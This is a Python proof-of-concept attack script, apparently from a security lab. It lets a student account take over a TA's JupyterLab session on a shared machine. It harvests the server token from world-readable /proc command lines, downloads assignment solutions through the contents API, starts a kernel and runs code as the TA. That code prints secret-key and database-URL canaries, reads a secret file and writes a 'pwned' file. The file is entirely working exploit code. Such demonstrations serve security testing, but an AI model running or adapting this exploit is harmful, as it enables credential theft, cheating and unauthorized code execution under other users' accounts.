"""Student side of a02 (uid 1001): reads every process's command line (world-readable /proc/<pid>/cmdline), takes the
token of the TA's JupyterLab, reads the solutions through its contents API and runs code in a kernel as the TA."""
import json, os, re, sys, uuid, urllib.request
found = None
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    args = [a.decode(errors="replace") for a in cmd]
    tok = [a.split("=", 1)[1] for a in args if a.startswith("--IdentityProvider.token=")]
    port = [a.split("=", 1)[1] for a in args if a.startswith("--ServerApp.port=")]
    if tok and port:
        found = (pid, port[0], tok[0]); break
print("from /proc/<pid>/cmdline:", found, flush=True)
if not found:
    sys.exit(0)
pid, port, token = found
base = f"http://127.0.0.1:{port}"
def api(path, method="GET", body=None):
    req = urllib.request.Request(f"{base}{path}", method=method, data=json.dumps(body).encode() if body is not None else None,
                                 headers={"Authorization": f"token {token}", "Content-Type": "application/json"})
    return json.load(urllib.request.urlopen(req, timeout=20))
nb = api("/api/contents/source/ps1_memory/ps1_memory.ipynb")
sol = [c["source"] for c in nb["content"]["cells"] if "BEGIN SOLUTION" in c["source"]]
print("solution cells read through the TA's server:", len(sol), "first:", sol[0][:160].replace("\n", " | ") if sol else None, flush=True)
k = api("/api/kernels", "POST", {"name": "python3"})
print("kernel started in the TA's server:", k["id"], flush=True)
from tornado import ioloop, websocket, gen
async def run(code):
    ws = await websocket.websocket_connect(f"ws://127.0.0.1:{port}/api/kernels/{k['id']}/channels?token={token}")
    mid = uuid.uuid4().hex
    ws.write_message(json.dumps({"header": {"msg_id": mid, "msg_type": "execute_request", "username": "x", "session": uuid.uuid4().hex,
                                            "date": "", "version": "5.3"}, "parent_header": {}, "metadata": {}, "channel": "shell",
                                 "content": {"code": code, "silent": False, "store_history": False, "user_expressions": {}, "allow_stdin": False}}))
    out = []
    while True:
        m = await ws.read_message()
        if m is None: break
        m = json.loads(m)
        if m.get("parent_header", {}).get("msg_id") != mid: continue
        if m["msg_type"] == "stream": out.append(m["content"]["text"])
        if m["msg_type"] == "error": out.append(m["content"]["evalue"])
        if m["msg_type"] == "status" and m["content"]["execution_state"] == "idle": break
    ws.close(); return "".join(out)
code = ("import os; print('uid', os.getuid(), 'canary', os.environ.get('AWS_SECRET_ACCESS_KEY'), os.environ.get('DATABASE_URL')); "
        "print(open('/tmp/attack52-user-home/ta_secret').read().strip()); open('/tmp/attack52-user-home/written_by_student_a02','w').write('pwned')")
print("code run as the TA ->", ioloop.IOLoop.current().run_sync(lambda: run(code), timeout=60), flush=True)
api(f"/api/kernels/{k['id']}", "DELETE") if False else None
